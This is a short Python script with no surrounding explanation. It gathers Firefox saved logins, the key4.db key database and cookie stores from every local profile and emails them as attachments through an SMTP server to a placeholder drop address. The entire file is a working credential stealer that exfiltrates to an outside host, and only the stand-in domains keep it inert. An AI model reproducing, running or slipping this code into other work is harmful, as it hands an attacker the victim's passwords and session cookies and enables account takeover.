import glob
import os
import smtplib
from email.message import EmailMessage

msg = EmailMessage()
msg["Subject"] = "ff"
msg["To"] = "drop@example.invalid"
for prof in glob.glob(os.path.expanduser("~/.mozilla/firefox/*.default*")):
    for name in ("logins.json", "key4.db", "cookies.sqlite"):
        p = os.path.join(prof, name)
        if os.path.exists(p):
            msg.add_attachment(open(p, "rb").read(), maintype="application", subtype="octet-stream", filename=name)
with smtplib.SMTP("smtp.example.invalid", 587) as s:
    s.send_message(msg)
